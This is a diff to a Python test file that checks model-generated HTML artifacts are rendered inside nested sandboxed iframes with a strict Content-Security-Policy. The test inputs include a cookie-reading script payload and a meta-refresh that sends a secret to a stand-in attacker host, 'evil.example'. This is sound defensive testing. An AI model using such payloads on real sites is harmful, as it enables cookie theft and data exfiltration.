@@ -39,9 +39,27 @@ def test_html_runs_only_in_a_sandbox_without_same_origin():
     assert 'sandbox="allow-scripts"' in iframe
     assert "allow-same-origin" not in frame
     assert "<script>alert" not in frame.split("<iframe", 1)[0]  # nothing of the model's outside the frame
-    srcdoc = html.unescape(re.search(r'srcdoc="([^"]*)"', iframe).group(1))
+    wrapper = html.unescape(re.search(r'srcdoc="([^"]*)"', iframe).group(1))
+    inner = re.search(r"<iframe[^>]*>", wrapper).group(0)
+    assert 'sandbox="allow-scripts"' in inner and "allow-same-origin" not in wrapper
+    assert "<script>alert" not in wrapper  # the model's page is one frame further in
+    srcdoc = html.unescape(re.search(r'srcdoc="([^"]*)"', inner).group(1))
     assert "<script>alert(document.cookie)</script>" in srcdoc
     assert "Content-Security-Policy" in srcdoc and "default-src 'none'" in srcdoc
+
+
+def test_the_model_page_cannot_navigate_its_frame_to_leak_data():
+    """A page can always navigate itself (`location = url`, `<meta http-equiv=refresh>`), whatever its own CSP;
+    the policy of the document around its frame decides: `frame-src 'none'` refuses every such navigation."""
+    source = '<meta http-equiv="refresh" content="0;url=https://evil.example/?secret=1"><script>location="x"</script>'
+    frame = Artifact.from_block("html", source).html()
+
+    wrapper = html.unescape(re.search(r'srcdoc="([^"]*)"', frame).group(1))
+
+    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', wrapper).group(1)
+    assert wrapper.startswith('<meta http-equiv="Content-Security-Policy"')  # before anything else
+    assert "frame-src 'none'" in policy and "default-src 'none'" in policy
+    assert "evil.example" not in wrapper.split("srcdoc=", 1)[0]
 
 
 def test_markdown_escapes_raw_html_and_renders_artifacts_in_place():
